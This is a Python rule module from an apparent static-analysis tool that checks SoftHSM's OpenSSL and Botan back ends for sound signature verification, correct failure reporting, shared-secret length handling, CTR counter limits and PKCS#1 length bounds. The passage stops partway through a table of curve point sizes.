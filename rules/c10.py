"""C10 — cryptographic results (DESIGN.md §3 C10; very narrow: acceptance discipline and the DH length idiom only)."""
import os, re
from engine.rulelib import *
from rules.c16 import outcomes, fact_of

EXPLANATION = (
    "Numerical correctness, interoperability with an independent implementation, bit-flip rejection as a statement about values and multi-part/single-part equality quantify over runtime values and are NOT decided by this family (not claimed). "
    "Decided are three structural necessary conditions. R1 (accept only after compare): in both crypto back ends (OpenSSL and Botan configurations are both parsed) every abstract path of every verify / verifyFinal / decryptFinal implementation "
    "that can report success passed the success edge of a comparison primitive applied to the caller's signature/tag — RSA_verify*, DSA_do_verify, ECDSA_do_verify, EVP_DigestVerify, EVP_DecryptFinal (after EVP_CTRL_GCM_SET_TAG whenever the mode is GCM), "
    "ByteString::operator==, Botan verify_message/check_signature/same_mem, Botan's end_msg() inside a try whose handlers reject, or a delegated verify of the family; the base-class defaults are exempt only because every class a factory instantiates overrides them. "
    "R2 (failure is reported): in SoftHSM.cpp a false result of verify/verifyFinal/decryptUpdate/decryptFinal never reaches `return CKR_OK`. "
    "R3 (stripped length): DH_compute_key / ECDH_compute_key / Botan raw key agreement return a big-endian integer without leading zeros; in each deriveKey the secret handed to setKeyBits has a size that does not depend on the returned length, and the returned "
    "length is consumed beyond the error test (it positions the copy), in both back ends alike.")
ASSUMPTIONS = ['the listed library primitives compare what their documentation says they compare', 'abstract paths: loops unrolled once, then summarised', 'exceptions: a call inside try{} may transfer to any handler of that try']
TECHNIQUE = 'custom static analysis over the clang AST (OpenSSL and Botan configurations): path enumeration of the verify family with a success-edge typestate, taint of the signature argument, size model for the derived secret'
LEVEL_TEXT = ('All abstract paths of the 30+ functions of the verify family in two back ends and of the six SoftHSM.cpp consumers are enumerated. The clauses are necessary conditions of sound verification (an accepting path without comparison accepts forgeries); '
              'they say nothing about the numerical correctness of any mechanism.')
LEVEL_NOTE = 'trusted: clang front end, normaliser, abstract interpreter, the whitelist of comparison primitives in rules/c10.py'

OSSL_PRIMS = {'RSA_verify', 'RSA_verify_PKCS1_PSS', 'RSA_verify_PKCS1_PSS_mgf1', 'DSA_do_verify', 'ECDSA_do_verify', 'EVP_DigestVerify', 'EVP_DigestVerifyFinal', 'EVP_DecryptFinal', 'EVP_DecryptFinal_ex',
              'EVP_PKEY_verify', 'CRYPTO_memcmp'}
# primitives that return 1 for a valid signature, 0 for an invalid one and a negative value on error: only `== 1` (or `> 0`) is the success edge, "non-zero" is not
STRICT_ONE = {'RSA_verify', 'RSA_verify_PKCS1_PSS', 'RSA_verify_PKCS1_PSS_mgf1', 'DSA_do_verify', 'ECDSA_do_verify', 'EVP_DigestVerify', 'EVP_DigestVerifyFinal', 'EVP_PKEY_verify'}
BOTAN_PRIMS = {'verify_message', 'check_signature', 'same_mem', 'constant_time_compare', 'end_msg'}
VALUE_PRIMS = {'operator==', 'same_mem', 'constant_time_compare', 'verify_message', 'check_signature'}
FAMILY = {'verify', 'verifyFinal', 'decryptFinal'}
BASES = {'AsymmetricAlgorithm', 'MacAlgorithm', 'SymmetricAlgorithm'}


def taint(fn, seeds):
    """Names tainted by the seeds through assignments, initialisers and out-parameter calls (flow-insensitive closure)."""
    t = set(seeds)
    for _ in range(6):
        n0 = len(t)
        for n in walk(fn['body']):
            k = n.get('k')
            if k == 'Decl':
                for d in n['decls']:
                    if d.get('init') is not None and any(x.get('k') == 'Var' and x['name'] in t for x in walk(d['init'])):
                        t.add(d['var']['name'])
            elif k == 'Assign' and n['a'].get('k') == 'Var' and any(x.get('k') == 'Var' and x['name'] in t for x in walk(n['b'])):
                t.add(n['a']['name'])
            elif k == 'Call' and any(x.get('k') == 'Var' and x['name'] in t for a in n.get('args', []) for x in walk(a)):
                # a call mixing tainted and untainted pointer variables: the latter may be filled from the former (DSA_SIG_set0(sig, r, s), BN_bin2bn into a local)
                for a in n.get('args', []):
                    if a.get('k') == 'Var' and a.get('kind') != 'param':
                        t.add(a['name'])
                    if a.get('k') == 'Un' and a.get('op') == '&':
                        for x in walk(a['e']):
                            if x.get('k') == 'Var' and x.get('kind') != 'param':
                                t.add(x['name'])
        if len(t) == n0:
            break
    return t


def mentions_any(text, names):
    return any(re.search(r'(?<![\w.])%s(?![\w])' % re.escape(n), text) for n in names)


def in_rejecting_try(fn, call_line):
    for n in walk(fn['body']):
        if n.get('k') == 'Try' and any(x.get('k') == 'Call' and x.get('l') == call_line for x in walk(n['body'])):
            hs = n.get('handlers', [])
            if hs and all(any(x.get('k') == 'Return' and canon(x.get('e')) in ('false', '0') for x in walk(h['body'])) for h in hs):
                return True
    return False


def r1_accept(ctx, configs):
    r = ctx.rule('C10.R1', 'verification / authenticated decryption reports success only on the success edge of a comparison primitive over the caller\'s signature or tag', floor=24, engine='E3')
    for cfg, prog in configs:
        prims = OSSL_PRIMS | BOTAN_PRIMS | VALUE_PRIMS | FAMILY | {'EVP_CIPHER_CTX_ctrl'}
        fam = [f for f in prog.functions.values() if f.get('class') and f['qname'].split('::')[-1] in FAMILY
               and any(b in ([f['class']] + list(all_bases(prog, f['class']))) for b in BASES)]
        for f in sorted(fam, key=lambda f: (f['file'], f['line'])):
            cls, meth = f['class'], f['qname'].split('::')[-1]
            ctx.analysed(f)
            site = '%s [%s]' % (meth, cfg)
            if cls in BASES:
                if meth == 'verify':
                    pass        # the composition verifyInit && verifyUpdate && verifyFinal: analysed like the others (delegation)
                else:
                    # default implementation: state bookkeeping only.  Exempt iff every instantiated subclass overrides it.
                    missing = []
                    for sub in sorted(prog.subclasses(cls)):
                        inst = any(n.get('k') == 'New' and n.get('type', '').replace('class ', '') == sub for g in prog.functions.values() for n in walk(g['body']))
                        if inst and not chain_overrides(prog, sub, cls, meth):
                            missing.append(sub)
                    if missing:
                        r.violation(f['qname'], site, 'the default %s (which accepts after bookkeeping only) is inherited unchanged by instantiated class(es) %s' % (meth, missing[:3]), file=f['file'], line=f['line'])
                    else:
                        r.ok(f['qname'], site, 'default is overridden by every instantiated subclass', file=f['file'], line=f['line'])
                    continue
            sigp = [p['var']['name'] for p in f['params'] if p.get('var') and p['var']['name'] in ('signature', 'data')] if meth != 'decryptFinal' else []
            if meth != 'decryptFinal' and not f['params'][-1 if meth == 'verifyFinal' else 2].get('var'):
                sigp = []
            if meth == 'verify':
                sigp = [p['var']['name'] for p in f['params'][2:3] if p.get('var')]
            elif meth == 'verifyFinal':
                sigp = [p['var']['name'] for p in f['params'][:1] if p.get('var')]
            tainted = taint(f, sigp) if sigp else set()
            # file-local free functions called with the signature: a check that was extracted into a helper counts when the helper itself accepts only on a success edge
            local_helpers = {c['callee']: c for c in calls(f['body']) if c.get('callee') and '::' not in c['callee'] and helper_accepts(prog, f, c, tainted)}
            o = outcomes(f, prog, {}, record=prims | set(local_helpers), rounds=1, cap=512)
            r.paths += len(o.outcomes)
            bad = None
            ntrue = 0
            for oc in o.outcomes:
                if oc['retv'] in (0, '0', 'false') or oc['ret'] in ('false', '0'):
                    continue
                ntrue += 1
                evs = oc['events']
                ok = False
                # (a) success edge of an API primitive on this path
                settag = None
                for i, e in enumerate(evs):
                    if e[0] == 'call' and e[1] == 'EVP_CIPHER_CTX_ctrl' and any('GCM_SET_TAG' in a or 'AEAD_SET_TAG' in a or a in ('17', '0x11') for a in e[2]):
                        settag = i
                    if e[0] == 'call' and e[1] in local_helpers:
                        if fact_of(oc, e[1], e[3], i) is True:
                            ok = True
                        continue
                    if e[0] != 'call' or e[1] not in (OSSL_PRIMS | BOTAN_PRIMS | FAMILY):
                        continue
                    t = fact_of(oc, e[1], e[3], i)
                    succ = (t is True and e[1] not in STRICT_ONE) or (isinstance(t, tuple) and t[1] in ('1', 'true') and t[2] is True)
                    if e[1] == 'end_msg':
                        succ = in_rejecting_try(f, e[3])
                    if not succ:
                        continue
                    if e[1] in FAMILY:
                        # delegation to the family: only verifyFinal/verify with the signature, decryptFinal of the base does not count
                        if e[1] == 'decryptFinal' or (e[2] and e[2][0].endswith('Algorithm') is False and cls not in BASES and 'this' in e[2][:1] and prog_base_call(f, e[3])):
                            continue
                        if sigp and not any(mentions_any(a, tainted) for a in e[2]):
                            continue
                        ok = True
                    elif meth == 'decryptFinal':
                        ok = True
                    elif not sigp or any(mentions_any(a, tainted) for a in e[2]):
                        ok = True
                # (b)/(c) the returned value is itself the comparison / a delegated family call
                m = re.match(r'!?((?:operator)?[\w=!]+?)(@\d+)?\((.*)\)$', oc['ret'] or '')
                if not ok and m and (m.group(1) in VALUE_PRIMS or m.group(1) in ('verify', 'verifyFinal')) and (not sigp or mentions_any(m.group(3), tainted)):
                    ok = True
                # (d) a local result variable assigned only from primitives over the signature
                if not ok and re.fullmatch(r'\w+', oc['ret'] or ''):
                    v = oc['ret']
                    asg = [n['b'] for n in walk(f['body']) if n.get('k') == 'Assign' and n['a'].get('k') == 'Var' and n['a']['name'] == v]
                    asg += [d['init'] for n in walk(f['body']) if n.get('k') == 'Decl' for d in n['decls'] if d['var']['name'] == v and d.get('init') is not None]
                    if asg and all((x.get('k') == 'Call' and short(x.get('callee')) in (VALUE_PRIMS | OSSL_PRIMS) and mentions_any(canon(x), tainted)) or canon(x) in ('false', '0')
                                   or helper_accepts(prog, f, x, tainted) for x in asg):
                        ok = True
                if meth == 'decryptFinal' and ok:
                    # GCM: the tag must have been installed before the final check (OpenSSL); Botan checks inside end_msg
                    gcm = any(e[0] == 'fact' and re.search(r'EQ\(mode,SymMode::GCM\)', e[1]) and e[2] for e in evs) or has_fact(oc['facts'], r'EQ\(mode,SymMode::GCM\)')
                    if gcm and cfg.startswith('ossl'):
                        fin = [i for i, e in enumerate(evs) if e[0] == 'call' and e[1].startswith('EVP_DecryptFinal')]
                        if settag is None or not fin or settag > fin[-1]:
                            ok = False
                if not ok:
                    bad = oc
            if ntrue == 0:
                r.ok(f['qname'], site, 'never reports success (operation not supported)', file=f['file'], line=f['line'])
            elif bad:
                r.violation(f['qname'], site, 'a path reports success without having passed the success edge of a comparison over %s (returned: %s): a forged or truncated input is accepted on it' % (
                    'the GCM tag' if meth == 'decryptFinal' else 'the signature', bad['ret']), file=f['file'], line=bad['line'], path=bad['path'])
            else:
                r.ok(f['qname'], site, '%d accepting paths of %d, each after a successful comparison' % (ntrue, len(o.outcomes)), file=f['file'], line=f['line'])


def helper_accepts(prog, f, x, tainted, _memo={}):
    """x is a call of a file-local free function with the (tainted) signature among its arguments, and that function reports success only on the success edge of a comparison
    primitive over the corresponding parameter (the check was extracted into a helper)."""
    if x.get('k') != 'Call' or not x.get('callee') or '::' in x['callee']:
        return False
    hs = [h for h in prog.fns(x['callee']) if not h.get('class') and os.path.basename(h['file']) == os.path.basename(f['file']) and h.get('body') is not None]
    if not hs:
        return False
    h = hs[0]
    pn = [pp['var']['name'] if pp.get('var') else None for pp in h['params']]
    seeds = [pn[i] for i, a in enumerate(x.get('args', [])) if i < len(pn) and pn[i] and mentions_any(canon(a), tainted)]
    if not seeds:
        return False
    key = (h['qname'], h['file'], tuple(seeds), id(prog))
    if key in _memo:
        return _memo[key]
    ht = taint(h, seeds)
    o = outcomes(h, prog, {}, record=OSSL_PRIMS | BOTAN_PRIMS | VALUE_PRIMS, rounds=1, cap=256)
    good = bool(o.outcomes)
    for oc in o.outcomes:
        if oc['retv'] in (0, '0', 'false') or oc['ret'] in ('false', '0'):
            continue
        ok = False
        for i, e in enumerate(oc['events']):
            if e[0] != 'call' or e[1] not in (OSSL_PRIMS | BOTAN_PRIMS):
                continue
            t = fact_of(oc, e[1], e[3], i)
            succ = (t is True and e[1] not in STRICT_ONE) or (isinstance(t, tuple) and t[1] in ('1', 'true') and t[2] is True)
            if succ and any(mentions_any(a, ht) for a in e[2]):
                ok = True
        m = re.match(r'!?((?:operator)?[\w=!]+?)(@\d+)?\((.*)\)$', oc['ret'] or '')
        if not ok and m and m.group(1) in VALUE_PRIMS and mentions_any(m.group(3), ht):
            ok = True
        if not ok:
            good = False
    _memo[key] = good
    return good


def prog_base_call(f, line):
    """Is the family call at `line` a qualified call to the base-class default (Base::verifyFinal(...))?"""
    for c in calls(f['body']):
        if c.get('l') == line and c.get('callee', '').split('::')[0] in BASES and short(c['callee']) in FAMILY:
            return True
    return False


def all_bases(prog, cls, seen=None):
    seen = seen or set()
    c = prog.classes.get(cls)
    out = []
    for b in (c or {}).get('bases', []):
        b = b.replace('class ', '')
        if b not in seen:
            seen.add(b)
            out.append(b)
            out += all_bases(prog, b, seen)
    return out


def chain_overrides(prog, sub, base, meth):
    """Does sub or one of its ancestors below `base` define meth?"""
    cur = [sub]
    seen = set()
    while cur:
        c = cur.pop()
        if c == base or c in seen:
            continue
        seen.add(c)
        if prog.fns('%s::%s' % (c, meth)):
            return True
        cur += [b.replace('class ', '') for b in (prog.classes.get(c) or {}).get('bases', [])]
    return False


CONSUMERS = [('SymDecrypt', 'decryptUpdate'), ('SymDecrypt', 'decryptFinal'), ('SymDecryptUpdate', 'decryptUpdate'), ('SymDecryptFinal', 'decryptFinal'),
             ('MacVerify', 'verifyFinal'), ('AsymVerify', 'verifyFinal'), ('AsymVerify', 'verify'), ('MacVerifyFinal', 'verifyFinal'), ('AsymVerifyFinal', 'verifyFinal'),
             ('SoftHSM::UnwrapKeySym', 'decryptUpdate'), ('SoftHSM::UnwrapKeySym', 'decryptFinal')]


def r2_reported(ctx, prog):
    r = ctx.rule('C10.R2', 'a failed verification / decryption never ends in CKR_OK', floor=9, engine='E3')
    found = {(g['qname'], short(c['callee'])) for g in prog.functions.values() if g['file'].endswith('/SoftHSM.cpp') for c in calls(g['body'])
             if short(c.get('callee', '')) in ('verify', 'verifyFinal', 'decryptUpdate', 'decryptFinal') and c.get('recv') is not None and c['recv'].get('k') != 'This'}
    for q, m in sorted(found - set(CONSUMERS)):
        r.undecided(q, m, 'a consumer of %s that is not in the frozen list of rules/c10.py' % m)
    for q, m in CONSUMERS:
        if (q, m) not in found:
            raise AnalysisBroken('consumer %s of %s vanished' % (q, m))
        f = prog.fn(q)
        ctx.analysed(f)
        o = outcomes(f, prog, {}, record={m}, rounds=1, cap=256)
        r.paths += len(o.outcomes)
        bad = None
        nfail = 0
        for oc in o.outcomes:
            for i, e in enumerate(oc['events']):
                if e[0] == 'call' and e[1] == m and fact_of(oc, m, e[3], i) is False:
                    nfail += 1
                    if oc['ret'] in ('CKR_OK', '0') or oc['retv'] in (0, '0'):
                        bad = oc
        # must-pass-through: a verify function reports CKR_OK only on a path on which the verifying call happened and succeeded
        if q in ('MacVerify', 'AsymVerify', 'MacVerifyFinal', 'AsymVerifyFinal') and not bad:
            fam = {'verify', 'verifyFinal'}
            o2 = outcomes(f, prog, {}, record=fam, rounds=1, cap=256)
            for oc in o2.outcomes:
                if oc['ret'] in ('CKR_OK', '0') or oc['retv'] in (0, '0'):
                    okev = [i for i, e in enumerate(oc['events']) if e[0] == 'call' and e[1] in fam and fact_of(oc, e[1], e[3], i) is True]
                    if not okev:
                        bad = oc
                        nfail = max(nfail, 1)
                        m = 'verify/verifyFinal (never called or its result not tested on this path)'
        site = 'false from %s' % (m if ' ' not in m else 'verify')
        if nfail == 0:
            r.undecided(q, site, 'no path with a failing %s found' % m, file=f['file'], line=f['line'])
        elif bad:
            r.violation(q, site, ('%s returned false and the function still returns CKR_OK' % m) if ' ' not in m else 'a path returns CKR_OK without a successful %s: any signature of the right length is accepted' % m, file=f['file'], line=bad['line'], path=bad['path'])
        else:
            r.ok(q, site, '%d failing paths, none returns CKR_OK' % nfail, file=f['file'], line=f['line'])


STRIPPING = {
    'ossl': [('OSSLDH::deriveKey', 'DH_compute_key'), ('OSSLECDH::deriveKey', 'ECDH_compute_key')],
    'botan': [('BotanDH::deriveKey', 'derive_key'), ('BotanECDH::deriveKey', 'derive_key')],
}


def r3_stripped_length(ctx, configs, rule_id='C10.R3'):
    r = ctx.rule(rule_id, 'the shared secret has the fixed length of the group, independent of the (zero-stripped) length the primitive returned, and that length positions the copy', floor=4, engine='E8')
    for cfg, prog in configs:
        for q, prim in STRIPPING['ossl' if cfg.startswith('ossl') else 'botan']:
            f = prog.fn(q)
            ctx.analysed(f)
            # the variable that holds the returned length
            lenvars = set()
            resvars = set()
            for n in walk(f['body']):
                if n.get('k') == 'Decl':
                    for d in n['decls']:
                        i = d.get('init')
                        if i is not None and any(c for c in calls(i) if short(c.get('callee')) == prim):
                            (lenvars if prim.endswith('compute_key') else resvars).add(d['var']['name'])
                elif n.get('k') == 'Assign' and n['a'].get('k') == 'Var' and any(c for c in calls(n['b']) if short(c.get('callee')) == prim):
                    (lenvars if prim.endswith('compute_key') else resvars).add(n['a']['name'])
                elif n.get('k') == 'Call' and short(n.get('callee')) == 'operator=' and n.get('recv') is not None and n['recv'].get('k') == 'Var' \
                        and any(short(c.get('callee')) == prim for a in n.get('args', []) for c in calls(a)):
                    resvars.add(n['recv']['name'])
            if resvars:      # Botan: sk = ka.derive_key(...); int keySize = sk.length();
                for n in walk(f['body']):
                    if n.get('k') == 'Decl':
                        for d in n['decls']:
                            i = d.get('init')
                            if i is not None and any(short(c.get('callee')) in ('length', 'size') and c.get('recv') is not None and canon(c['recv']) in resvars for c in calls(i)):
                                lenvars.add(d['var']['name'])
            site = 'secret of %s [%s]' % (prim, cfg)
            if not lenvars and not resvars:
                r.undecided(q, site, 'the call of %s was not found' % prim, file=f['file'], line=f['line'])
                continue

            # (i) size of the ByteString given to setKeyBits
            # the sink: setKeyBits(x) here, or a file-local helper that is handed the secret and does it (x = the ByteString argument forwarded to setKeyBits there)
            helper_arg = {}
            for c in calls(f['body']):
                if c.get('callee') and '::' not in c['callee'] and c.get('args'):
                    for g in prog.fns(c['callee']):
                        if os.path.basename(g['file']) != os.path.basename(f['file']):
                            continue
                        pn = [pp['var']['name'] if pp.get('var') else None for pp in g.get('params', [])]
                        for k2 in calls(g['body'], short='setKeyBits'):
                            if k2.get('args') and k2['args'][0].get('k') == 'Var' and k2['args'][0]['name'] in pn:
                                helper_arg[c['callee']] = pn.index(k2['args'][0]['name'])
            def is_sink(e):
                return e.get('k') == 'Call' and (short(e.get('callee')) == 'setKeyBits' or e.get('callee') in helper_arg)

            def trig(e, st):
                return ('setKeyBits', e['l']) if is_sink(e) else None
            sf = SiteFacts(f, prog, trigger=trig).go()
            r.paths += sf.paths_returned
            bad = None
            nsites = 0
            for (_, line), hits in sorted(sf.sites.items()):
                c = [c for c in calls(f['body']) if is_sink(c) and c['l'] == line][0]
                arg = canon(c['args'][helper_arg.get(c.get('callee'), 0)])
                for h in hits:
                    nsites += 1
                    sz = h['env'].get('size(%s)' % arg)
                    dep = sz is None or mentions_any(sz, lenvars | resvars) or prim in sz
                    if dep:
                        bad = (line, 'the size of %s at setKeyBits is %s, which depends on the length returned by %s' % (arg, sz if sz is not None else 'unknown', prim), h['path'])
            # (ii) the returned length is consumed outside the error test / logging
            uses = 0
            for n in walk(f['body']):
                if n.get('k') == 'Call' and short(n.get('callee')) not in ('softHSMLog',) and not (short(n.get('callee')) == prim):
                    if any(x.get('k') == 'Var' and x['name'] in lenvars for a in n.get('args', []) for x in walk(a)):
                        uses += 1
            if nsites == 0:
                r.undecided(q, site, 'setKeyBits not reached', file=f['file'], line=f['line'])
            elif bad:
                r.violation(q, site, bad[1] + ': when the shared secret has leading zero octets the derived key is shorter than the prime / field (and differs from the other back end)', file=f['file'], line=bad[0], path=bad[2])
            elif uses == 0 and lenvars:
                r.violation(q, site, 'the length returned by %s (%s) is only tested, never used to place the result: with leading zero octets stripped by the primitive the secret ends up left-aligned (multiplied by 256^k)' % (prim, '/'.join(sorted(lenvars))),
                            file=f['file'], line=f['line'])
            else:
                r.ok(q, site, 'fixed size; returned length used %d time(s)' % uses, file=f['file'], line=f['line'])


def r6_counter_limit(ctx, configs):
    """AES-CTR with an m-bit counter is only correct up to the block where the counter wraps: past it the library (OpenSSL/Botan increment all 128 bits) would carry into the nonce and
    produce a key stream no other implementation produces.  The back ends therefore install a byte limit at Init.  Decided: the limit is installed for EVERY counter width 1..128
    (the value stored for width 0, 'no limit', is never what a positive width ends with)."""
    r = ctx.rule('C10.R6', 'the CTR counter-exhaustion limit is installed for every counter width', floor=8, engine='E2 finite-domain evaluation, self-calibrated on width 0')
    WIDTHS = (1, 31, 32, 63, 64, 65, 127, 128)
    for cname, prog in configs:
        fns = []
        for g in prog.functions.values():
            if not (g.get('class') or '').endswith('SymmetricAlgorithm') or 'counterBits' not in [pp['var']['name'] for pp in g['params'] if pp.get('var')]:
                continue
            w = [n for n in walk(g['body']) if (n.get('k') == 'Assign' and canon(n['a']).split('->')[-1] == 'maximumBytes') or
                 (n.get('k') == 'Call' and (n.get('callee') or '').endswith('operator=') and n.get('recv') is not None and canon(n['recv']).split('->')[-1] == 'maximumBytes')]
            if w:
                fns.append(g)
        if not fns:
            r.undecided(cname, 'limit', 'no function with a counterBits parameter assigns maximumBytes', file='', line=0)
        for g in sorted(fns, key=lambda g: (g['file'], g['line'])):
            ctx.analysed(g)

            def last_values(width):
                from engine.interp import St
                o = Outcomes(g, prog, cenv={}, record_calls={'operator=', 'flip_sign'})
                o.CAP = 64
                o.LOOP_ROUNDS = 1
                o.go(init=St(env={'counterBits': str(width)}))      # the width on entry; the bit-reversal loop counts the variable down
                r.paths += len(o.outcomes)
                vals = set()
                for oc in o.outcomes:
                    if oc['retv'] == 0 or oc['ret'] == 'false':
                        continue
                    ws = [e for e in oc['events'] if (e[0] == 'write' and e[1].split('->')[-1] == 'maximumBytes') or (e[0] == 'call' and e[1] == 'operator=' and e[2] and e[2][0].split('->')[-1] == 'maximumBytes')]
                    if ws:
                        e = ws[-1]
                        vals.add((str(e[2]) if e[0] == 'write' else str(e[2][1:]), e[3]))
                return vals
            marker = {v for v, _ in last_values(0)}
            if not marker:
                r.undecided(g['qname'], 'width 0', 'cannot see what is stored as "no limit"', file=g['file'], line=g['line'])
                continue
            for wd in WIDTHS:
                site = '%s width %d' % (cname, wd)
                vals = last_values(wd)
                bad = [(v, l) for v, l in vals if v in marker]
                if not vals:
                    r.undecided(g['qname'], site, 'no completing path writes maximumBytes', file=g['file'], line=g['line'])
                elif bad:
                    r.violation(g['qname'], site, 'with a %d-bit counter the function ends with maximumBytes = %s (line %s), the value that means "no limit": data beyond the wrap of the counter is accepted and the increment carries into the nonce'
                                % (wd, bad[0][0], bad[0][1]), file=g['file'], line=bad[0][1])
                else:
                    r.ok(g['qname'], site, 'limit installed (line %s)' % sorted(vals)[0][1], file=g['file'], line=sorted(vals)[0][1])


# what the length of a shared secret must be measured by (the secret is a field element / a residue mod p), and what it must not be
SECRET_LENGTH = {
    'ECDH_compute_key': (('EC_GROUP_get_degree',), ('getOrderLength', 'EC_GROUP_get_order', 'EC_GROUP_order_bits', 'BN_num_bytes'), 'the x-coordinate of a point: ceil(field degree / 8) octets (SEC 1 section 3.3.1)'),
    'derive_key@ECDH': (('get_p_bytes', 'get_p_bits'), ('getOrderLength', 'get_order', 'get_order_bytes'), 'the x-coordinate of a point: the octet length of the field prime'),
    'DH_compute_key': (('DH_size', 'DH_bits', 'BN_num_bytes'), ('getOrderLength',), 'a residue modulo p: the octet length of the prime'),
    'derive_key@DH': (('getOutputLength', 'bytes', 'bits', 'getP', 'get_p'), ('getOrderLength', 'get_q'), 'a residue modulo p: the octet length of the prime'),
}


def r10_secret_measure(ctx, configs, rule_id='C10.R10'):
    """The buffer the shared secret is right-aligned in is measured by the field (ECDH: the secret is an x-coordinate) or the prime (DH) - not by the group order, whose octet
    length differs on curves such as secp160r1, secp224k1, sect233k1: there the secret lost its last byte or gained a leading zero (F33)."""
    r = ctx.rule(rule_id, 'the length of a shared secret is the length of a field element (ECDH) / of the prime (DH), never that of the group order', floor=4, engine='E8 value provenance of the size at setKeyBits')
    for cfg, prog in configs:
        for q, prim in STRIPPING['ossl' if cfg.startswith('ossl') else 'botan']:
            f = prog.fn(q)
            ctx.analysed(f)
            key = prim if prim != 'derive_key' else 'derive_key@' + ('ECDH' if 'ECDH' in q else 'DH')
            good, badsrc, why = SECRET_LENGTH[key]
            helper_arg = {}
            for c in calls(f['body']):
                if c.get('callee') and '::' not in c['callee'] and c.get('args'):
                    for g in prog.fns(c['callee']):
                        if os.path.basename(g['file']) != os.path.basename(f['file']):
                            continue
                        pn = [pp['var']['name'] if pp.get('var') else None for pp in g.get('params', [])]
                        for k2 in calls(g['body'], short='setKeyBits'):
                            if k2.get('args') and k2['args'][0].get('k') == 'Var' and k2['args'][0]['name'] in pn:
                                helper_arg[c['callee']] = pn.index(k2['args'][0]['name'])

            def is_sink(e):
                return e.get('k') == 'Call' and (short(e.get('callee')) == 'setKeyBits' or e.get('callee') in helper_arg)

            def trig(e, st):
                return ('setKeyBits', e['l']) if is_sink(e) else None
            sf = SiteFacts(f, prog, trigger=trig).go()
            r.paths += sf.paths_returned
            site = 'length of the secret of %s [%s]' % (prim, cfg)
            sizes = set()
            for (_, line), hits in sorted(sf.sites.items()):
                c = [c for c in calls(f['body']) if is_sink(c) and c['l'] == line][0]
                arg = canon(c['args'][helper_arg.get(c.get('callee'), 0)])
                for h in hits:
                    v = h['env'].get('size(%s)' % arg)
                    if v is not None and re.fullmatch(r'\w+', v) and h['env'].get(v):
                        v = h['env'][v]          # a local that holds the value (e.g. the length the primitive returned)
                    sizes.add((v, line, h['path']))
            if not sizes:
                r.undecided(q, site, 'setKeyBits not reached', file=f['file'], line=f['line'])
                continue
            verdict = None
            lenvars = set()
            for n in walk(f['body']):
                if n.get('k') == 'Decl':
                    for d in n['decls']:
                        i = d.get('init')
                        if i is not None and any(short(c.get('callee')) in (prim, 'length') for c in calls(i)):
                            lenvars.add(d['var']['name'])
                elif n.get('k') == 'Assign' and n['a'].get('k') == 'Var' and any(short(c.get('callee')) == prim for c in calls(n['b'])):
                    lenvars.add(n['a']['name'])
            for sz, line, path in sorted(sizes, key=lambda x: (str(x[0]), x[1])):
                names = set(re.findall(r'[A-Za-z_]\w*(?=(?:@\d+)?\()', sz or ''))
                if sz is None:
                    verdict = ('undecided', 'the size of the secret at setKeyBits (line %d) is not a value the analysis follows' % line, line, path)
                elif names & set(badsrc):
                    verdict = ('violated', 'the secret is measured by %s (size %s): that is the length of the group order, but the secret is %s - on curves where the two differ the derived key is cut or padded and does not match the peer\'s' % ('/'.join(sorted(names & set(badsrc))), sz, why), line, path)
                    break
                elif prim in names or mentions_any(sz, lenvars):
                    continue          # the size is the length the primitive returned: that is C10.R3's violation, not a question of the measure
                elif not (names & set(good)):
                    verdict = verdict or ('undecided', 'the size of the secret (%s) comes from none of the known measures %s' % (sz, '/'.join(good)), line, path)
            if verdict is None:
                r.ok(q, site, 'measured by %s' % '/'.join(sorted({n for sz, _, _ in sizes for n in re.findall(r'[A-Za-z_]\w*(?=(?:@\d+)?\()', sz or '') if n in good})), file=f['file'], line=f['line'])
            elif verdict[0] == 'violated':
                r.violation(q, site, verdict[1], file=f['file'], line=verdict[2], path=verdict[3])
            else:
                r.undecided(q, site, verdict[1], file=f['file'], line=verdict[2])


def r15_pkcs1_bounds(ctx, prog, rule_id='C10.R15'):
    """PKCS#1 v1.5 takes messages of up to k - 11 octets (k = modulus length).  "The token produces what the standard mechanism defines for every valid input": the OpenSSL back end's own
    length guards in front of RSA_private_encrypt / RSA_public_encrypt are evaluated at the boundary - a message of exactly k - 11 octets must still be able to succeed."""
    r = ctx.rule(rule_id, 'the length guard of CKM_RSA_PKCS accepts a message of exactly k - 11 octets (sign and encrypt)', floor=2, engine='E1 finite-domain evaluation at the boundary')
    def enum_val(q):
        for e in prog.enums.values():
            for c in e.get('enumerators', []):
                if (e['qname'].rsplit('::', 1)[0] + '::' + c['name']) == q or c.get('qname') == q:
                    return c.get('v', c.get('value'))
        return None
    v_pkcs = enum_val('AsymMech::RSA_PKCS')
    k = 128
    for q, data, mechp in (('OSSLRSA::sign', 1, 3), ('OSSLRSA::encrypt', 1, 3)):
        fs = prog.fns(q)
        if not fs:
            continue
        f = fs[0]
        ctx.analysed(f)
        if v_pkcs is None:
            r.undecided(q, 'k - 11 octets', 'the value of AsymMech::RSA_PKCS was not found', file=f['file'], line=f['line'])
            continue
        dn, mn = param_name(f, data), param_name(f, mechp)
        cenv = {mn: v_pkcs, re.compile(r'size\(getN\(.*\)\)'): k, re.compile(r'RSA_size(@\d+)?\(.*\)'): k, 'size(%s)' % dn: k - 11, re.compile(r'isOfType\(.*\)'): 1, 'rsa': 1, 'bn_n': 1}
        o = Outcomes(f, prog, cenv=cenv)
        o.CAP = 256
        o.go()
        r.paths += len(o.outcomes)
        site = 'message of k - 11 octets'
        good = [oc for oc in o.outcomes if str(oc.get('ret')) in ('true', '1')]
        if not o.outcomes:
            r.undecided(q, site, 'no path', file=f['file'], line=f['line'])
        elif not good:
            r.violation(q, site, 'with CKM_RSA_PKCS and a message of exactly k - 11 octets (k = %d) every path fails: the longest message PKCS#1 v1.5 allows is refused by the back end\'s own length guard' % k,
                        file=f['file'], line=o.outcomes[0]['line'], path=o.outcomes[0]['path'])
        else:
            r.ok(q, site, '%d of %d paths can succeed' % (len(good), len(o.outcomes)), file=f['file'], line=f['line'])


RAW_PUBLIC_SIZES = {32: 'X25519 (RFC 7748)', 56: 'X448 (RFC 7748)', 65: 'P-256 uncompressed point (SEC 1)', 97: 'P-384 uncompressed point', 133: 'P-521 uncompressed point'}

# uncompressed points (1 + 2 * field octets) of the other named curves of the OpenSSL back end
OTHER_RAW_SIZES = {29: 'secp112r1/r2', 33: 'secp128r1/r2', 41: 'secp160k1/r1/r2, brainpoolP160', 49: 'P-192, brainpoolP192', 57: 'P-224, secp224k1, brainpoolP224', 61: 'prime239v1-3, sect233/239', 81: 'brainpoolP320',
